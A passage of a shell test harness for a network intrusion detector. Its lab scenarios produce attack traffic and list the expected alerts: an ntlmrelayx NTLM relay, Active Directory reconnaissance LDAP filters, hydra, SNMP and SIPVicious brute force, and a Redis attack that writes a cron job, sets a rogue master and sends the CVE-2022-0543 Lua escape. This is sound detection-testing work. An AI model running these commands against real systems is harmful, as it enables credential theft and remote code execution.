    {"rule": "exfil.large_upload", "source": {"ip": "10.77.2.23"}, "destination": {"ip": "198.51.100.10", "port": 8000}, "evidence": {"file_sharing": true, "destination": "transfer.sh"}}]' \
    '  "exclusive": true'
}

# Impacket's ntlmrelayx on 10.77.2.66 takes SMB sessions on 445 and HTTP on 80 and relays their
# NTLM authentication to SMB on the servers 10.77.1.10 and 10.77.1.20, one victim each (Debian's
# Python, where python3-impacket lives).
start_ntlmrelayx() {
  local relay=/usr/share/doc/python3-impacket/examples/ntlmrelayx.py
  [ -f "$relay" ] || { log "ntlm-relay: $relay missing (Debian's python3-impacket ships it)"; return 1; }
  # ntlmrelayx loads every attack module, and its LDAP shadow-credentials attack imports
  # dsinternals, which Debian does not package: empty stand-ins let it start (that attack is
  # not used here; any use of them fails loudly).
  local stub="$WORK/pydeps/dsinternals" m
  for m in system/Guid:Guid system/DateTime:DateTime common/cryptography/X509Certificate2:X509Certificate2 \
    common/data/hello/KeyCredential:KeyCredential; do
    mkdir -p "$stub/$(dirname "${m%%:*}")"
    printf 'class %s:\n    def __init__(self, *a, **k):\n        raise RuntimeError("dsinternals is not installed")\n' "${m#*:}" >"$stub/${m%%:*}.py"
  done
  find "$stub" -type d -exec touch {}/__init__.py \;
  mkdir -p "$WORK/relay-loot"
  printf 'smb://10.77.1.10\nsmb://10.77.1.20\n' >"$WORK/relay-targets.txt"
  # It runs until its standard input ends: a bounded sleep holds it open.
  scen_bg rogue sh -c "sleep 120 | PYTHONPATH='$WORK/pydeps' /usr/bin/python3 '$relay' -tf '$WORK/relay-targets.txt' -smb2support \
    --no-wcf-server --no-raw-server --no-multirelay -l '$WORK/relay-loot'"
  # Impacket takes a while to load all its protocol clients.
  wait_listen rogue 445 300 && wait_listen rogue 80
}

# The relay's victim: workstation WS20 opens a share on the poisoner (as it would after an LLMNR
# answer or a coerced connection), signing in as labuser. Impacket's server speaks SMB 2.0.2 only,
# which Samba's client leaves out unless asked (Windows clients offer it).
ws20_signs_in_to_relay() {
  nsx ws20 timeout 20 smbclient -s "$WORK/smb-client.conf" --option='client min protocol=SMB2_02' -n WS20 \
    -U "PKLLAB/$LAB_USER%$LAB_PASS" //10.77.2.66/files -c ls \
    >>"$WORK/logs/ntlm-relay.txt" 2>&1 || true
}

scenario_ntlm_relay() {
  start_ntlmrelayx
  ws20_signs_in_to_relay
  # A second victim signs in over HTTP with NTLM (curl --ntlm, as a coerced WebDAV client would).
  nsx ws22 curl -s -o /dev/null --noproxy '*' --max-time 15 --ntlm -u 'PKLLAB\helpdesk:Help-Passw0rd' http://10.77.2.66/files/ \
    >>"$WORK/logs/ntlm-relay.txt" 2>&1 || true
  # And an ordinary session: WS21 opens the server's share itself.
  nsx ws21 timeout 20 smbclient -s "$WORK/smb-client.conf" -n WS21 -U "PKLLAB/$LAB_USER%$LAB_PASS" //10.77.1.10/public -c ls \
    >>"$WORK/logs/ntlm-relay.txt" 2>&1 || true
  sleep 2
  stop_capture
  require ntlm-relay 6 "tcp port 445 and host 10.77.2.20 and host 10.77.2.66"
  require ntlm-relay 6 "tcp port 445 and host 10.77.2.66 and host 10.77.1.10"
  require ntlm-relay 6 "tcp port 80 and host 10.77.2.22 and host 10.77.2.66"
  require ntlm-relay 6 "tcp port 445 and host 10.77.2.66 and host 10.77.1.20"
  expect ntlm-relay "Impacket ntlmrelayx (Debian python3-impacket 0.10) on 10.77.2.66 relays the NTLM authentication of labuser from workstation WS20 (10.77.2.20, smbclient -n WS20 to \\\\\\\\10.77.2.66\\\\files) to SMB on 10.77.1.10, and of helpdesk from 10.77.2.22 over HTTP (curl --ntlm; curl gives the machine's host name as workstation) to SMB on 10.77.1.20 (both Samba, guest mapping). WS21 (10.77.2.21) signs in to 10.77.1.10 itself: no relay alert. WS20's SMB session with the relay host, a workstation, also raises lateral.workstation_to_workstation." \
    '[{"rule": "ntlm.relay", "source": {"ip": "10.77.2.66"}, "destination": {"ip": "10.77.1.10", "port": 445}, "evidence": {"victim": "10.77.2.20", "user": "PKLLAB\\labuser", "workstation": "WS20"}},
    {"rule": "ntlm.relay", "source": {"ip": "10.77.2.66"}, "destination": {"ip": "10.77.1.20", "port": 445}, "evidence": {"victim": "10.77.2.22", "user": "PKLLAB\\helpdesk", "victim_connected_to_port": 80}}]'
}

scenario_ntlm_relay_far() {
  start_ntlmrelayx
  # Names the network knows: WS21's client resolves its colleagues (the DNS keeps what DHCP handed out).
  nsx ws21 timeout 5 dig +short @10.77.1.1 ws20.lab.example A >/dev/null
  nsx ws21 timeout 5 dig +short @10.77.1.1 lab66.lab.example A >/dev/null
  nsx ws21 timeout 5 dig +short @10.77.1.1 ws21.lab.example A >/dev/null
  ws20_signs_in_to_relay
  # WS21 opens the server's share itself (its own name, its own address).
  nsx ws21 timeout 20 smbclient -s "$WORK/smb-client.conf" -n WS21 -U "PKLLAB/$LAB_USER%$LAB_PASS" //10.77.1.10/public -c ls \
    >>"$WORK/logs/ntlm-relay.txt" 2>&1 || true
  sleep 2
  stop_capture
  require ntlm-relay-far 6 "tcp port 445 and host 10.77.2.66 and host 10.77.1.10"
  # The sensor sits on the servers' side: the victim's own connection to the relay is left out.
  tcpdump -r "$WORK/ntlm-relay-far.pcap" -w "$WORK/ntlm-relay-far.cut.pcap" 'not (host 10.77.2.20 and host 10.77.2.66)' 2>/dev/null
  mv "$WORK/ntlm-relay-far.cut.pcap" "$WORK/ntlm-relay-far.pcap"
  [ "$(pcount ntlm-relay-far "host 10.77.2.20 and host 10.77.2.66")" -eq 0 ]
  expect ntlm-relay-far "Impacket ntlmrelayx (Debian python3-impacket 0.10) on 10.77.2.66 relays the NTLM authentication of labuser from workstation WS20 (10.77.2.20, smbclient -n WS20) to SMB on 10.77.1.10; the capture leaves out WS20's own connection to the relay (a sensor on the servers' side sees only the relayed sign-in). Before it, 10.77.2.21 resolves ws20.lab.example (10.77.2.20), lab66.lab.example (10.77.2.66) and its own name ws21.lab.example from the lab DNS; WS21 then signs in to 10.77.1.10 itself, from the address its name has: no alert." \
    '[{"rule": "ntlm.relay", "source": {"ip": "10.77.2.66"}, "destination": {"ip": "10.77.1.10", "port": 445}, "evidence": {"victim": "10.77.2.20", "user": "PKLLAB\\labuser", "workstation": "WS20", "one_leg": true}}]'
}

scenario_ldap_recon() {
  # The searches of Impacket's GetUserSPNs, GetNPUsers and findDelegation (their own filters and
  # attributes, sent with ldapsearch: Impacket signs in with NTLM, which slapd does not offer), then
  # PowerView's adminCount search, a LAPS password read and Certipy's template search, from
  # workstation 10.77.2.20. slapd knows none of these AD attributes and finds nothing.
  local uac='UserAccountControl:1.2.840.113556.1.4.803:'
  ldaps ws20 "(&(servicePrincipalName=*)(${uac}=512)(!(${uac}=2))(!(objectCategory=computer)))" \
    servicePrincipalName sAMAccountName pwdLastSet MemberOf userAccountControl lastLogon >/dev/null 2>&1 || true
  ldaps ws20 "(&(${uac}=4194304)(!(${uac}=2))(!(objectCategory=computer)))" \
    sAMAccountName memberOf pwdLastSet lastLogon >/dev/null 2>&1 || true
  ldaps ws20 "(&(|(${uac}=16777216)(${uac}=524288)(msDS-AllowedToDelegateTo=*)(msDS-AllowedToActOnBehalfOfOtherIdentity=*))(!(${uac}=2))(!(${uac}=8192)))" \
    sAMAccountName pwdLastSet userAccountControl objectCategory msDS-AllowedToActOnBehalfOfOtherIdentity msDS-AllowedToDelegateTo >/dev/null 2>&1 || true
  ldaps ws20 '(&(samAccountType=805306368)(admincount=1))' samAccountName >/dev/null 2>&1 || true
  ldaps ws20 '(objectClass=computer)' ms-Mcs-AdmPwd ms-Mcs-AdmPwdExpirationTime dNSHostName >/dev/null 2>&1 || true
  ldaps ws20 '(objectclass=pKICertificateTemplate)' cn name displayName msPKI-Certificate-Name-Flag >/dev/null 2>&1 || true
  # Ordinary lookups from another workstation: a user's entry, the organisational units.
  ldaps ws21 '(uid=labuser)' cn mail >/dev/null 2>&1 || true
  ldaps ws21 '(objectClass=organizationalUnit)' ou >/dev/null 2>&1 || true
  stop_capture
  require ldap-recon 6 "tcp dst port 389 and src host 10.77.2.20 and tcp[tcpflags] & tcp-push != 0"
  require ldap-recon 2 "tcp dst port 389 and src host 10.77.2.21 and tcp[tcpflags] & tcp-push != 0"
  expect ldap-recon "ldapsearch (OpenLDAP 2.5, anonymous) from 10.77.2.20 to slapd on 10.77.1.10 with the filters and attributes of Impacket's GetUserSPNs, GetNPUsers and findDelegation, PowerView's adminCount search, a LAPS password read (ms-Mcs-AdmPwd) and Certipy's certificate template search; slapd knows none of the AD attributes. 10.77.2.21 looks up a user and the organisational units: no alert. device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "ldap.recon_query", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "10.77.1.10", "port": 389}, "evidence": {"looked_for": ["service accounts (Kerberoasting)", "accounts without Kerberos pre-authentication (AS-REP roasting)", "unconstrained delegation", "constrained delegation", "resource-based constrained delegation", "privileged accounts (adminCount)", "LAPS passwords", "AD CS certificate templates and authorities"]}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_crypto_mining() {
  # A pool on the Internet host (3333, the usual Stratum port, and 14444); no miner ships in
  # Debian, so stratum-pool.py speaks both ends, as XMRig and cgminer send their sign-ins.
  scen_bg inet python3 "$LAB_DIR/stratum-pool.py" pool 3333 1 60
  scen_bg inet python3 "$LAB_DIR/stratum-pool.py" pool 14444 1 60
  wait_listen inet 3333 && wait_listen inet 14444
  # The server 10.77.1.10, hijacked: an XMRig-style Monero login (accepted, one share) by address.
  nsx srv timeout 20 python3 "$LAB_DIR/stratum-pool.py" miner 198.51.100.10 3333 monero
  # Workstation 10.77.2.20: a Bitcoin-style Stratum V1 sign-in on another port.
  nsx ws20 timeout 20 python3 "$LAB_DIR/stratum-pool.py" miner 198.51.100.10 14444 bitcoin
  # Workstation 10.77.2.21 only looks a pool up (the lab resolver has no answer for it).
  nsx ws21 dig @10.77.1.1 +tries=1 +time=2 pool.supportxmr.com A >/dev/null || true
  stop_capture
  require crypto-mining 4 "tcp port 3333 and host 10.77.1.10 and tcp[tcpflags] & tcp-push != 0"
  require crypto-mining 4 "tcp port 14444 and host 10.77.2.20 and tcp[tcpflags] & tcp-push != 0"
  require crypto-mining 1 "udp dst port 53 and src host 10.77.2.21"
  expect crypto-mining "Stratum sign-ins to a pool on the Internet host 198.51.100.10, both ends scripted by ../stratum-pool.py (no miner ships in Debian): server 10.77.1.10 logs in as XMRig does (Monero \\\"login\\\" with wallet, agent and algorithms; accepted; one share) on 3333; workstation 10.77.2.20 sends cgminer's mining.subscribe and mining.authorize on 14444. Workstation 10.77.2.21 looks up pool.supportxmr.com. device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "crypto.mining", "source": {"ip": "10.77.1.10"}, "destination": {"ip": "198.51.100.10", "port": 3333}, "evidence": {"agents": ["XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0"], "accepted": true}},
    {"rule": "crypto.mining", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "198.51.100.10", "port": 14444}, "evidence": {"agents": ["cgminer/4.12.0"], "wallets": ["labworker.rig1"]}},
    {"rule": "crypto.mining", "source": {"ip": "10.77.2.21"}, "evidence": {"pool_names": ["pool.supportxmr.com"]}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_cleartext_login() {
  # curl -u sends HTTP Basic at once: two workstations send passwords to the Internet host in clear.
  nsx ws20 curl -s -o /dev/null --noproxy '*' --max-time 5 -u 'jdoe:Summer2026!' http://198.51.100.10/index.html || true
  nsx ws21 curl -s -o /dev/null --noproxy '*' --max-time 5 -u 'backup:Backup-Passw0rd' http://198.51.100.10/robots.txt || true
  # Inside the site: an LDAP simple bind with a password, which the rule leaves alone by default.
  ldaps ws22 -D "uid=user03,ou=people,$LDAP_BASE" -w pw-user03 '(uid=user03)' mail >/dev/null
  stop_capture
  require cleartext-login 1 "tcp dst port 80 and src host 10.77.2.20 and tcp[tcpflags] & tcp-push != 0"
  require cleartext-login 1 "tcp dst port 80 and src host 10.77.2.21 and tcp[tcpflags] & tcp-push != 0"
  require cleartext-login 1 "tcp dst port 389 and src host 10.77.2.22 and tcp[tcpflags] & tcp-push != 0"
  expect cleartext-login "HTTP Basic sign-ins (curl -u) from 10.77.2.20 (jdoe) and 10.77.2.21 (backup) to busybox httpd on the Internet host 198.51.100.10; an LDAP simple bind with a password from 10.77.2.22 to slapd on 10.77.1.10, inside the site (reported only with the rule's internal option). device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "auth.cleartext", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "198.51.100.10", "port": 80}, "evidence": {"service": "http", "users": ["jdoe", "backup"], "clients": ["10.77.2.20", "10.77.2.21"]}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_form_login() {
  # Passwords outside the Authorization header, to busybox httpd on the Internet host (it answers
  # 404 or 501: the passwords crossed all the same). A WordPress-style login form; a JSON sign-in;
  # a camera-style CGI login with the password in the query; a search form that names no password.
  nsx ws20 curl -s -o /dev/null --noproxy '*' --max-time 5 -d 'log=editor&pwd=Spring2026%21&wp-submit=Log+In' http://198.51.100.10/wp-login.php || true
  nsx ws21 curl -s -o /dev/null --noproxy '*' --max-time 5 -H 'Content-Type: application/json' -d '{"username":"svc-report","password":"R3port-2026"}' http://198.51.100.10/api/login || true
  nsx ws23 curl -s -o /dev/null --noproxy '*' --max-time 5 'http://198.51.100.10/cgi-bin/login.cgi?user=admin&passwd=admin123' || true
  nsx ws22 curl -s -o /dev/null --noproxy '*' --max-time 5 -d 'q=password+reset&page=2' http://198.51.100.10/search || true
  stop_capture
  require form-login 1 "tcp dst port 80 and src host 10.77.2.20 and tcp[tcpflags] & tcp-push != 0"
  require form-login 1 "tcp dst port 80 and src host 10.77.2.21 and tcp[tcpflags] & tcp-push != 0"
  require form-login 1 "tcp dst port 80 and src host 10.77.2.23 and tcp[tcpflags] & tcp-push != 0"
  require form-login 1 "tcp dst port 80 and src host 10.77.2.22 and tcp[tcpflags] & tcp-push != 0"
  expect form-login "Passwords in HTTP requests to busybox httpd on the Internet host 198.51.100.10 (curl 7.88): 10.77.2.20 posts a WordPress-style login form (log=editor, pwd), 10.77.2.21 a JSON sign-in (username svc-report), 10.77.2.23 a CGI login with user=admin and passwd in the URI query; 10.77.2.22 posts a search form that names no password field, which must not count. device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "auth.cleartext", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "198.51.100.10", "port": 80}, "evidence": {"service": "http", "users": ["editor", "svc-report", "admin"], "clients": ["10.77.2.20", "10.77.2.21", "10.77.2.23"], "logins": 3}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_form_brute() {
  local i
  # A web login on the server 10.77.1.10 (busybox httpd: its answer never says "Dashboard", so
  # hydra takes every try for a failure and goes through the whole list).
  scen_bg srv busybox httpd -f -p 8081 -h "$WORK/www"
  wait_listen srv 8081
  for i in $(seq 1 30); do printf 'Autumn-%02d\n' "$i"; done >"$WORK/form-passwords.txt"
  (cd "$WORK" && nsx ws24 timeout 120 hydra -I -l admin -P "$WORK/form-passwords.txt" -t 4 -s 8081 10.77.1.10 \
    http-post-form '/wp-login.php:log=^USER^&pwd=^PASS^&wp-submit=Log+In:S=Dashboard' >"$WORK/logs/hydra-form.txt" 2>&1) || true
  # A monitoring script signing in with its one password, again and again.
  for i in $(seq 1 25); do
    nsx ws21 curl -s -o /dev/null --noproxy '*' --max-time 5 -d 'log=monitor&pwd=Check-2026' http://10.77.1.10:8081/wp-login.php || true
  done
  stop_capture
  grep -q "0 valid password" "$WORK/logs/hydra-form.txt" || { log "form-brute: $(tail -n 3 "$WORK/logs/hydra-form.txt")"; return 1; }
  require form-brute 30 "tcp dst port 8081 and src host 10.77.2.24 and tcp[tcpflags] & tcp-push != 0"
  require form-brute 25 "tcp dst port 8081 and src host 10.77.2.21 and tcp[tcpflags] & tcp-push != 0"
  expect form-brute "hydra 9.4 http-post-form (-t 4) from 10.77.2.24 against a WordPress-style login (log, pwd) on busybox httpd, port 8081 of the server 10.77.1.10: 30 different passwords for admin, no reply telling failure from success; hydra's user-agent gives it away too. 10.77.2.21 signs in 25 times with one password (a monitoring script): no alert. Inside the site, so auth.cleartext stays quiet by default. device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "auth.bruteforce", "source": {"ip": "10.77.2.24"}, "destination": {"ip": "10.77.1.10", "port": 8081}, "evidence": {"service": "http", "mode": "failures", "outcomes_hidden": true, "users": ["admin"]}},
    {"rule": "ua.attack_tool", "source": {"ip": "10.77.2.24"}, "destination": {"ip": "10.77.1.10", "port": 8081}, "evidence": {"tool": "hydra"}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_snmp() {
  local i
  # net-snmp agents: the server 10.77.1.10 (community labread, v3 user opsuser with SHA/AES) and the
  # Internet host (community netops).
  mkdir -p "$WORK/snmp-srv" "$WORK/snmp-inet"
  cat >"$WORK/snmp-srv/snmpd.conf" <<EOF2
agentAddress udp:10.77.1.10:161
rocommunity labread default
rocommunity public default
rwcommunity private default
createUser opsuser SHA "Ops-Auth-2026" AES "Ops-Priv-2026"
rouser opsuser
sysDescr Lab server 10.77.1.10 (net-snmp)
persistentDir $WORK/snmp-srv
EOF2
  cat >"$WORK/snmp-inet/snmpd.conf" <<EOF2
agentAddress udp:198.51.100.10:161
rocommunity netops default
sysDescr Internet host (net-snmp)
persistentDir $WORK/snmp-inet
EOF2
  scen_bg srv snmpd -f -Lo -C -c "$WORK/snmp-srv/snmpd.conf" -p "$WORK/snmp-srv/snmpd.pid"
  scen_bg inet snmpd -f -Lo -C -c "$WORK/snmp-inet/snmpd.conf" -p "$WORK/snmp-inet/snmpd.pid"
  wait_listen_udp srv 161 && wait_listen_udp inet 161
  local get="snmpget -On -t 1 -r 0"
  # A manager on 10.77.2.20 reads the server with its community: inside the site, no alert.
  nsx ws20 $get -v2c -c labread 10.77.1.10 1.3.6.1.2.1.1.1.0 1.3.6.1.2.1.1.3.0 >/dev/null
  # 10.77.2.22 in SNMPv3: right password (authPriv), then a wrong one, then a user the agent lacks.
  nsx ws22 $get -v3 -l authPriv -u opsuser -a SHA -A Ops-Auth-2026 -x AES -X Ops-Priv-2026 10.77.1.10 1.3.6.1.2.1.1.5.0 >/dev/null
  nsx ws22 $get -v3 -l authNoPriv -u opsuser -a SHA -A Wrong-Pass-1 10.77.1.10 1.3.6.1.2.1.1.5.0 >/dev/null 2>&1 || true
  nsx ws22 $get -v3 -l authNoPriv -u nobody -a SHA -A Whatever-123 10.77.1.10 1.3.6.1.2.1.1.5.0 >/dev/null 2>&1 || true
  # 10.77.2.21 walks the Internet host's system group: its community crosses the Internet in clear.
  nsx ws21 snmpwalk -On -t 1 -r 0 -v2c -c netops 198.51.100.10 1.3.6.1.2.1.1 >/dev/null
  # 10.77.2.23 tries the defaults: reads with "public", writes sysLocation with "private".
  nsx ws23 $get -v2c -c public 10.77.1.10 1.3.6.1.2.1.1.1.0 >/dev/null
  nsx ws23 snmpset -On -t 1 -r 0 -v2c -c private 10.77.1.10 1.3.6.1.2.1.1.6.0 s "rack 7" >/dev/null
  # 10.77.2.24 guesses the server's community with onesixtyone: 30 words, one right.
  for i in $(seq 1 29); do printf 'guess%02d\n' "$i"; done >"$WORK/communities.txt"
  echo labread >>"$WORK/communities.txt"
  nsx ws24 timeout 30 onesixtyone -c "$WORK/communities.txt" 10.77.1.10 >"$WORK/logs/onesixtyone.txt" 2>&1 || true
  stop_capture
  grep -q "labread" "$WORK/logs/onesixtyone.txt" || { log "snmp: onesixtyone found nothing: $(tail -n 3 "$WORK/logs/onesixtyone.txt")"; return 1; }
  require snmp 30 "udp dst port 161 and src host 10.77.2.24"
  require snmp 1 "udp src port 161 and src host 198.51.100.10"
  require snmp 4 "udp src port 161 and dst host 10.77.2.22"
  require snmp 2 "udp src port 161 and dst host 10.77.2.23"
  expect snmp "net-snmp 5.9 agents on the server 10.77.1.10 (communities labread, public read-only and private read-write; v3 user opsuser, SHA/AES) and the Internet host 198.51.100.10 (community netops). 10.77.2.20 reads sysDescr and sysUpTime with labread; 10.77.2.22 signs in with SNMPv3 (authPriv, right passwords), then with a wrong password and an unknown user; 10.77.2.21 walks the Internet host's system group with netops in clear; 10.77.2.23 reads sysDescr with public and sets sysLocation with private; 10.77.2.24 runs onesixtyone with 30 communities against the server, one right. device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "auth.cleartext", "source": {"ip": "10.77.2.21"}, "destination": {"ip": "198.51.100.10", "port": 161}, "evidence": {"service": "snmp", "clients": ["10.77.2.21"]}},
    {"rule": "auth.bruteforce", "source": {"ip": "10.77.2.24"}, "destination": {"ip": "10.77.1.10", "port": 161}, "evidence": {"service": "snmp", "mode": "failures", "outcomes_hidden": true}},
    {"rule": "snmp.default_community", "source": {"ip": "10.77.2.23"}, "destination": {"ip": "10.77.1.10", "port": 161}, "evidence": {"communities": ["public", "private"], "writes": true, "managers": ["10.77.2.23"]}}]' \
    '  "exclusive": true,
  "allow": ["device.new"]'
}

scenario_sip() {
  local i
  # Kamailio 5.6 on the server 10.77.1.10 as a small PBX registrar: extensions 1001 and 1002 with
  # digest passwords; other extensions get 404, a wrong password 403 (as Asterisk answers).
  mkdir -p "$WORK/sip"
  cat >"$WORK/sip/kamailio.cfg" <<'EOF2'
#!KAMAILIO
debug=1
log_stderror=yes
children=1
listen=udp:10.77.1.10:5060
listen=tcp:10.77.1.10:5060
mpath="/usr/lib/x86_64-linux-gnu/kamailio/modules/"
loadmodule "sl.so"
loadmodule "pv.so"
loadmodule "auth.so"
loadmodule "textops.so"
loadmodule "siputils.so"
request_route {
  if (is_method("REGISTER")) {
    if ($tU != "1001" && $tU != "1002") { sl_send_reply("404", "Not Found"); exit; }
    if (!pv_auth_check("$fd", "Phone-Pass-1002", "0", "1")) {
      if (is_present_hf("Authorization")) { sl_send_reply("403", "Forbidden"); exit; }
      auth_challenge("$fd", "0");
      exit;
    }
    sl_send_reply("200", "OK");
    exit;
  }
  if (is_method("OPTIONS")) { sl_send_reply("200", "OK"); exit; }
  if (is_method("ACK")) exit;
  sl_send_reply("405", "Method Not Allowed");
}
EOF2
  scen_bg srv kamailio -DD -E -f "$WORK/sip/kamailio.cfg" -Y "$WORK/sip" -w "$WORK/sip"
  wait_listen_udp srv 5060
  # The desk phone 10.77.2.22 (sipsak as the phone) registers extension 1001 with its password, and once with a typo.
  nsx ws22 timeout 10 sipsak -vv -U -C sip:1001@10.77.2.22 -s sip:1001@10.77.1.10 -a Phone-Pass-1002 >"$WORK/logs/sipsak-ok.txt" 2>&1
  nsx ws22 timeout 10 sipsak -U -C sip:1001@10.77.2.22 -s sip:1001@10.77.1.10 -a Phone-Pass-1003 >"$WORK/logs/sipsak-typo.txt" 2>&1 || true
  # The softphone 10.77.2.23 registers extension 1002 over TCP.
  nsx ws23 timeout 10 sipsak -vv -E tcp -U -C sip:1002@10.77.2.23 -s sip:1002@10.77.1.10 -a Phone-Pass-1002 >"$WORK/logs/sipsak-tcp.txt" 2>&1
  # 10.77.2.24 finds the PBX with svmap and enumerates extensions 1000-1030 with svwar (REGISTER).
  nsx ws24 timeout 30 svmap 10.77.1.10 >"$WORK/logs/svmap.txt" 2>&1
  nsx ws24 timeout 60 svwar -e1000-1030 -m REGISTER 10.77.1.10 >"$WORK/logs/svwar.txt" 2>&1
  # 10.77.2.25 guesses extension 1002's password with svcrack: 30 words, none right.
  for i in $(seq 1 30); do printf 'pin%04d\n' "$((i * 37))"; done >"$WORK/sip/passwords.txt"
  nsx ws25 timeout 120 svcrack -u 1002 -d "$WORK/sip/passwords.txt" 10.77.1.10 >"$WORK/logs/svcrack.txt" 2>&1 || true
  stop_capture
  grep -q "All usrloc tests completed successful" "$WORK/logs/sipsak-ok.txt" || { log "sip: the phone did not register: $(tail -n 3 "$WORK/logs/sipsak-ok.txt")"; return 1; }
  grep -q "All usrloc tests completed successful" "$WORK/logs/sipsak-tcp.txt" || { log "sip: the softphone did not register over TCP: $(tail -n 3 "$WORK/logs/sipsak-tcp.txt")"; return 1; }
  grep -q "1002" "$WORK/logs/svwar.txt" || { log "sip: svwar found nothing: $(tail -n 3 "$WORK/logs/svwar.txt")"; return 1; }
  require sip 30 "udp dst port 5060 and src host 10.77.2.24"
  require sip 60 "udp dst port 5060 and src host 10.77.2.25"
  require sip 4 "udp src port 5060 and dst host 10.77.2.22"
  require sip 2 "tcp src port 5060 and dst host 10.77.2.23 and tcp[tcpflags] & tcp-push != 0"
  expect sip "Kamailio 5.6 as a registrar on the server 10.77.1.10 (extensions 1001 and 1002, digest passwords; 404 for other extensions, 403 for a wrong password). The desk phone 10.77.2.22 (sipsak) registers 1001 with its password, then once with a typo; the softphone 10.77.2.23 (sipsak) registers 1002 over TCP. 10.77.2.24 runs SIPVicious 0.3 svmap against the server and svwar over extensions 1000-1030 (29 unknown); 10.77.2.25 runs svcrack against 1002 with 30 wrong passwords (all refused with 403). SIPVicious sends User-Agent friendly-scanner. device.new may fire for the server network's hosts, whose first frames these are." \
    '[{"rule": "ua.attack_tool", "source": {"ip": "10.77.2.24"}, "destination": {"ip": "10.77.1.10", "port": 5060}, "evidence": {"tool": "SIPVicious", "protocol": "sip"}},
    {"rule": "ua.attack_tool", "source": {"ip": "10.77.2.25"}, "destination": {"ip": "10.77.1.10", "port": 5060}, "evidence": {"tool": "SIPVicious", "protocol": "sip"}},
    {"rule": "auth.spray", "source": {"ip": "10.77.2.24"}, "destination": {"ip": "10.77.1.10", "port": 5060}, "evidence": {"services": ["sip"]}},
    {"rule": "auth.bruteforce", "source": {"ip": "10.77.2.25"}, "destination": {"ip": "10.77.1.10", "port": 5060}, "evidence": {"service": "sip", "mode": "failures"}}]' \
    '  "exclusive": true,
  "allow": ["device.new", "auth.bruteforce"]'
}

scenario_redis() {
  local i pass="Cache-Pass-2026" cli
  # Redis 7.0 on the server 10.77.1.10 with a password; protected configs (dir, dbfilename) may be set
  # at run time, as on the Redis 5 and 6 servers attackers usually find. MODULE stays disabled.
  mkdir -p "$WORK/redis" "$WORK/redis-cron"
  cat >"$WORK/redis/redis.conf" <<EOF2
bind 10.77.1.10
port 6379
protected-mode no
requirepass $pass
enable-protected-configs yes
dir $WORK/redis
save ""
appendonly no
daemonize no
EOF2
  # In its own mount namespace the server sees the lab's folder as /var/spool/cron/crontabs (on a
  # tmpfs over /var/spool): the attack below writes there, never to the host's cron.
  cat >"$WORK/redis/run.sh" <<EOF2
#!/bin/sh
mount -t tmpfs -o mode=755 tmpfs /var/spool || exit 1
mkdir -p /var/spool/cron/crontabs || exit 1
mount --bind "$WORK/redis-cron" /var/spool/cron/crontabs || exit 1
exec redis-server "$WORK/redis/redis.conf"
EOF2
  chmod +x "$WORK/redis/run.sh"
  scen_bg srv unshare -m --propagation private "$WORK/redis/run.sh"
  wait_listen srv 6379
  cli="redis-cli -h 10.77.1.10 -p 6379 --no-auth-warning"
  # The application server 10.77.2.22 signs in and works with its cache.
  nsx ws22 timeout 10 $cli -a "$pass" SET session:42 '{"user":"jdoe"}' >/dev/null
  nsx ws22 timeout 10 $cli -a "$pass" GET session:42 >/dev/null
  nsx ws22 timeout 10 $cli -a "$pass" INCR hits >/dev/null
  # 10.77.2.24 guesses the password with hydra: 30 words, none right.
  for i in $(seq 1 30); do printf 'redis%02d\n' "$i"; done >"$WORK/redis-passwords.txt"
  (cd "$WORK" && nsx ws24 timeout 120 hydra -I -P "$WORK/redis-passwords.txt" -t 4 redis://10.77.1.10 >"$WORK/logs/hydra-redis.txt" 2>&1) || true
  # 10.77.2.26, holding the password, turns the server against itself: the database file moved into
  # the cron folder (the lab's own folder, see above) with a job as its content, a rogue master on the Internet
  # host, a module load and the Lua sandbox escape of CVE-2022-0543 (both refused by this server).
  nsx ws26 timeout 10 $cli -a "$pass" CONFIG SET dir /var/spool/cron/crontabs >/dev/null
  nsx ws26 timeout 10 $cli -a "$pass" CONFIG SET dbfilename root >/dev/null
  nsx ws26 timeout 10 $cli -a "$pass" SET payload $'\n\n*/1 * * * * echo lab-job\n\n' >/dev/null
  nsx ws26 timeout 10 $cli -a "$pass" SAVE >/dev/null
  nsx ws26 timeout 10 $cli -a "$pass" SLAVEOF 198.51.100.10 6379 >/dev/null
  nsx ws26 timeout 10 $cli -a "$pass" SLAVEOF NO ONE >/dev/null
  nsx ws26 timeout 10 $cli -a "$pass" MODULE LOAD /tmp/exp.so >/dev/null 2>&1 || true
  nsx ws26 timeout 10 $cli -a "$pass" EVAL 'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res' 0 >/dev/null 2>&1 || true
  stop_capture
  grep -q "0 valid password" "$WORK/logs/hydra-redis.txt" || { log "redis: $(tail -n 3 "$WORK/logs/hydra-redis.txt")"; return 1; }
  [ -s "$WORK/redis-cron/root" ] || { log "redis: the database file was not written to the cron folder"; return 1; }
  require redis 30 "tcp dst port 6379 and src host 10.77.2.24 and tcp[tcpflags] & tcp-push != 0"
  require redis 8 "tcp[tcpflags] == tcp-syn and src host 10.77.2.26 and dst port 6379"
